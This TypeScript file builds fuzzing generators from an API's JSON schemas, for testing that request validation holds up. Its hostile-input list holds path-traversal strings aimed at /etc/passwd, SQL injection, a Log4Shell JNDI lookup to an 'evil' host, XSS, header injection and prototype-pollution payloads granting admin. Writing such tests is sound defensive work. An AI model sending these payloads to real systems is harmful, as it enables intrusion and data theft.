import fc from 'fast-check';
import type { JsonSchema } from './openapi.js';

/**
 * fast-check arbitraries from the JSON schemas of the API document: values the schema accepts, and
 * the hostile values a client may send instead. The fuzzer mixes both, so validation is exercised at
 * its edges and the handlers behind it see every accepted shape.
 */

/** Strings that have broken parsers, validators, SQL, headers and file systems before. */
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\uD800',
  'x\uDFFFy',
  '\u202Egnp.exe',
  '\u200B\u200C\u200D',
  '\uFEFFbom',
  'İıſK',
  'A\u030A\u0301\u0302',
  '🦄'.repeat(50),
  '𝔘𝔫𝔦𝔠𝔬𝔡𝔢',
  'line\r\nX-Injected: 1',
  '../../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..\\..\\windows\\win.ini',
  '/..;/admin',
  '%00',
  '%',
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '\\',
  '_%',
  '$1$$',
  '${jndi:ldap://evil/a}',
  '{{7*7}}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'null',
  'NaN',
  '-1',
  '1e309',
  '9'.repeat(400),
  'a@b',
  '00000000-0000-0000-0000-000000000000',
  'x'.repeat(70_000),
];

/** A string far past every limit (bodies over BODY_LIMIT_BYTES must be a 413, not a crash). */
export const HUGE_STRING = 'A'.repeat(1_200_000);

/** JSON text nested `depth` levels deep. */
export function deepJsonText(depth: number, open = '[', close = ']'): string {
  return `${open.repeat(depth)}${close.repeat(depth)}`;
}

/** A JSON object nested `depth` levels deep. */
export function deepObject(depth: number): unknown {
  let value: unknown = 'bottom';
  for (let i = 0; i < depth; i++) value = { a: value };
  return value;
}

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme-composite', maxLength: 64 }) },
  { weight: 1, arbitrary: fc.constant(HUGE_STRING) },
);

/** Any JSON value of the wrong kind: numbers, booleans, null, arrays, objects, deep nesting, pollution keys. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: hostileString },
  { weight: 2, arbitrary: fc.constantFrom<unknown>(0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, true, false, null, [], {}) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(deepObject(2_000), [[[[[[[[[[]]]]]]]]]], Array.from({ length: 20_000 }, (_, i) => i)) },
  { weight: 1, arbitrary: fc.constant(JSON.parse('{"__proto__":{"role":"admin","isAdmin":true},"constructor":{"prototype":{"x":1}}}') as unknown) },
);

function stringFor(schema: JsonSchema): fc.Arbitrary<string> {
  const min = schema.minLength ?? 0;
  const max = schema.maxLength ?? 300;
  const fits = (s: string) => s.length >= min && s.length <= max;
  switch (schema.format) {
    case 'email':
      return fc.emailAddress().filter(fits);
    case 'uuid':
      return fc.uuid();
    case 'date-time':
      return fc.date({ noInvalidDate: true, min: new Date(0), max: new Date(4102444800000) }).map((d) => d.toISOString());
    case 'byte':
      return fc.uint8Array({ minLength: 1, maxLength: 512 }).map((b) => Buffer.from(b).toString('base64'));
    case 'binary':
      return fc.string({ maxLength: 64 });
    default:
      break;
  }
  if (schema.pattern !== undefined) return fc.stringMatching(new RegExp(schema.pattern)).filter(fits);
  return fc.oneof(
    { weight: 4, arbitrary: fc.string({ unit: 'grapheme', minLength: min, maxLength: Math.min(max, min + 64) }) },
    // The longest accepted value, made of 4-byte characters where they still fit.
    { weight: 1, arbitrary: fc.constantFrom('x'.repeat(max), '🦄'.repeat(Math.floor(max / 2))).filter(fits) },
  );
}

/** Values the schema accepts (as far as this subset of JSON Schema goes). */
export function valid(schema: JsonSchema): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const);
  if (schema.enum !== undefined) return fc.constantFrom(...schema.enum);
  const alternatives = schema.anyOf ?? schema.oneOf;
  if (alternatives !== undefined) return fc.oneof(...alternatives.map(valid));
  const type = Array.isArray(schema.type) ? schema.type : [schema.type ?? 'object'];
  if (type.length > 1) return fc.oneof(...type.map((t) => valid({ ...schema, type: t })));
  switch (type[0]) {
    case 'string':
      return stringFor(schema);
    case 'integer':
      return fc.integer({ min: schema.minimum ?? -1_000_000, max: schema.maximum ?? 1_000_000 });
    case 'number':
      return fc.double({ min: schema.minimum ?? -1e9, max: schema.maximum ?? 1e9, noNaN: true });
    case 'boolean':
      return fc.boolean();
    case 'null':
      return fc.constant(null);
    case 'array':
      return fc.array(valid(schema.items ?? {}), { maxLength: 5 });
    default: {
      const props = schema.properties ?? {};
      const record = Object.fromEntries(Object.entries(props).map(([k, v]) => [k, valid(v)]));
      return fc.record(record, { requiredKeys: (schema.required ?? []).filter((k) => k in props) });
    }
  }
}

/** A value the schema accepts, with one property (at any depth of the top object) replaced by a hostile one. */
export function oneFieldHostile(schema: JsonSchema): fc.Arbitrary<unknown> {
  const keys = Object.keys(schema.properties ?? {});
  if (keys.length === 0) return hostileValue;
  return fc.tuple(valid(schema), fc.constantFrom(...keys, '__extra__'), hostileValue).map(([value, key, bad]) => {
    const out: Record<string, unknown> = typeof value === 'object' && value !== null ? { ...(value as Record<string, unknown>) } : {};
    out[key] = bad;
    return out;
  });
}
